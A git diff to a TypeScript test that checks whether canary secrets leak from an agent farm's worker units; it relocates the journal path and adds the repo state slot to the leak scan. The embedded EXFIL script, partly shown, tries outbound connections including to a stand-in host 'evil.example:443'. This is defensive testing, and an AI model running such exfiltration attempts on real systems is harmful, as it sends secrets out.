@@ -13,6 +13,7 @@ import { git, makeFixtureRepo } from "../helpers/fixture.js";
 import { startOpenAiStandin, type StandinRequest } from "../helpers/openai-standin.js";
 import { farmWithCliWorkers } from "../helpers/cli-farm.js";
 import { keyVault } from "../helpers/key-vault.js";
+import { repoSlot, stateDirFor } from "@optimus/farm-server/dist/home/farm-home.js";
 
 /** A unit's check that tries every way out it can think of, and reports what happened. */
 const EXFIL = `import { readdirSync, readFileSync, writeFileSync } from "node:fs";
@@ -54,7 +55,7 @@ for (const target of ["evil.example:443", process.argv[2], "registry.npmjs.org:4
 console.log("RESULTS " + JSON.stringify(out));
 `;
 
-const JOURNAL = (repo: string) => join(repo, ".optimus", "state", "journal.db");
+const JOURNAL = (repo: string) => join(stateDirFor(repo), "journal.db");
 
 /** Every file under `dir` whose bytes contain `needle` (symlinks not followed). */
 function filesContaining(dir: string, needle: Buffer, found: string[] = []): string[] {
@@ -168,7 +169,7 @@ test("canary secrets: units that try to print, commit, post and resolve their wa
   for (const p of [farm.pid, ...workers.map((w) => w.child.pid)]) {
     if (p && readFileSync(`/proc/${p}/environ`).includes(needle)) leaks.push(`environment of process ${p}`);
   }
-  leaks.push(...filesContaining(repo, needle), ...filesContaining(workDir, needle));
+  leaks.push(...filesContaining(repo, needle), ...filesContaining(workDir, needle), ...filesContaining(repoSlot(repo), needle));
   const allObjects = execFileSync("git", ["cat-file", "--batch-all-objects", "--batch"], { cwd: repo, maxBuffer: 256 * 1024 * 1024 });
   if (allObjects.includes(needle)) leaks.push("git objects");
   if (Buffer.from(farm.log).includes(needle)) leaks.push("farm log");
